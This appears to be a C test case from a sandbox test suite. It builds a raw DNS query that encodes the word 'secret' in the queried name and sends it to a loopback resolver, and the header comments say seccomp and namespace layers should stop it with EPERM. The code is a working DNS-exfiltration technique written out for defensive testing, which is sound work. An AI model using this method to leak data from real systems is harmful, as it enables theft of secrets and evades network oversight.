// attack: tell a secret in the name that a resolver is asked for
// layers: seccomp namespaces
// outcome: EPERM
#include "attack.h"
#include <netinet/in.h>

static const char query[] = "\x10\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" // one question
                            "\x06secret\x07invalid\x00\x00\x01\x00\x01";

long attack(void) {
    struct sockaddr_in resolver = {
        .sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    long client = TRY(raw(SYS_socket, AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    TRY(raw(SYS_connect, client, &resolver, sizeof resolver));
    return raw(SYS_sendto, client, query, sizeof query - 1, 0, NULL, 0);
}
